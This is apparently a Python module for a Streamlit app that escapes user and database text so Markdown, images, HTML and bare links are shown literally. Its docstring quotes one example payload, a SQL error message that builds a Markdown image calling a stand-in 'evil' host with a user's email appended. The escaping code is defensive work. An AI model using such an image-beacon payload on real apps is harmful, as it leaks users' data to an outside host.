"""Show text that came from a user or the database as text: never Markdown, never HTML.

Streamlit's alert boxes, captions and st.markdown interpret Markdown, so an error message built
by `SELECT error('![x](http://evil/?'||email||')')` or a saved-query description would make every
viewer's browser fetch a remote image (issue #12, finding 3). Everything here escapes first.
"""

from __future__ import annotations

import re

import streamlit as st

_MARKDOWN = re.compile(r"([\\`*_{}\[\]()#+\-.!|<>~$:&])")
# Escapes do not stop GitHub-style autolinks (`https\://x\.y` still became a link: the linker reads
# the decoded text), so an invisible word joiner goes where a web link starts: after a URL's scheme
# and after `www`. The text reads the same. An e-mail address is left whole, so it can be found on the
# page; it may show as a mailto: link, which fetches nothing.
_JOIN = "\u2060"
_AUTOLINK = re.compile(r"(?i)(\b(?:https?|ftp|www))(?=\\?[:.])")


def plain(text: object) -> str:
    """`text` escaped so Markdown shows it literally (no web links, bare URLs included, no images,
    emphasis or HTML)."""
    escaped = _MARKDOWN.sub(r"\\\1", str(text if text is not None else ""))
    return _AUTOLINK.sub(lambda m: m.group(1) + _JOIN, escaped).replace("\n", "  \n")


def error_text(text: object, icon: str = ":material/error:") -> None:
    st.error(plain(text), icon=icon)


def warning_text(text: object, icon: str = ":material/warning:") -> None:
    st.warning(plain(text), icon=icon)


def info_text(text: object, icon: str | None = None) -> None:
    st.info(plain(text), icon=icon)


def success_text(text: object, icon: str = ":material/check:") -> None:
    st.success(plain(text), icon=icon)


def caption_text(text: object) -> None:
    st.caption(plain(text))


def heading_text(title: object, rest: object = "") -> None:
    """A bold title from a user or the database, then plain text: both escaped, never interpreted."""
    st.markdown(f"**{plain(title)}**" + (f" {plain(rest)}" if rest else ""))


def stop_with(box, text: object) -> None:
    """Say `text` with `box` (error_text, info_text…) and end the page there: nothing below it would
    be right."""
    box(text)
    st.stop()
